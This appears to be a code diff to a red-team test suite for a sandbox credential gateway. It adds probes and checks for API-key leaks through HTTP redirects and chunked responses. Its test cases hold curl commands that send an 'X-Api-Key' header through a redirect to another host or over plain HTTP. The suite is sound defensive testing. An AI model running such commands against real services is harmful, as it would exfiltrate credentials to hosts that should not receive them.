@@ -1,7 +1,11 @@
 package redteam
 
 import (
+	"bufio"
+	"bytes"
 	"fmt"
+	"io"
+	"net/http"
 	"strings"
 
 	"github.com/custody-project/custody/audit"
@@ -60,10 +64,10 @@ func (c *catalogue) steering() {
 	c.secretive(Probe{ID: "steer/clear", step: "steer", Title: "a request in the clear to the credential's host: nothing is put in", Bypass: Steering, allowed: reaches, task: clear, binds: []secret{apiKey},
 		proof: allowedFlow, outer: notInTheClear})
 	c.secretive(Probe{ID: "steer/redirect", Title: "a redirect of the credential's host to another one, with a client that sends the header again", Bypass: Steering, allowed: reaches,
-		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"),
+		binds: []secret{apiKey}, proof: flagged("placeholder-to-other-host"), outer: notFollowed,
 		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=https://"+other+"/"+c.token()+"'")})
 	c.secretive(Probe{ID: "steer/redirect-clear", step: "steer", Title: "a redirect of the credential's host to itself in the clear", Bypass: Steering, allowed: reaches,
-		binds: []secret{apiKey}, outer: notInTheClear, proof: denied,
+		binds: []secret{apiKey}, outer: notFollowed, proof: denied,
 		task: program("sh", "-c", "curl -sS -m 15 -L -H \"X-Api-Key: $API_KEY\" 'https://"+world.API+"/v1/redirect?to=http://"+world.API+"/v1/"+c.token()+"'")})
 }
 
@@ -75,6 +79,16 @@ func notInTheClear(t *trial, p Probe, said report) string {
 		}
 	}
 	return spilled(t, p, report{})
+}
+
+// notFollowed finds fault with a request that went where a redirect led.
+func notFollowed(t *trial, p Probe, said report) string {
+	for _, r := range t.world.Requests() {
+		if strings.Contains(r.URI, p.token) && !strings.Contains(r.URI, "/redirect?") {
+			return "the redirect was followed to " + r.Host
+		}
+	}
+	return spilled(t, p, said)
 }
 
 // secondAuth are the probes of a credential of the guest's own, beside the gateway's or in its place: with
@@ -194,9 +208,20 @@ func answered(b *about, r *audit.Record) bool {
 	return r.HTTP != nil && r.HTTP.Credential == apiKey.name && b.hasToken(string(r.HTTP.Path))
 }
 
+// body is what an answer holds without the marks of its chunks, as far as it came.
+func body(answer []byte) []byte {
+	resp, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(answer)), nil)
+	if err != nil {
+		return nil // curl's output has no head
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body) // an answer may break off
+	return fmt.Append(b, resp.Trailer)
+}
+
 // masked finds fault with an answer that has the value, and with a probe that proves nothing: the host did not get it.
 func masked(t *trial, p Probe, said report) string {
-	if form := shown(said.Answer, t.values[apiKey.name]); form != "" {
+	if form := shown(append(said.Answer, body(said.Answer)...), t.values[apiKey.name]); form != "" {
 		return "the sandbox got the value, in the form " + form
 	}
 	return arrives(apiKey)(t, p, said)
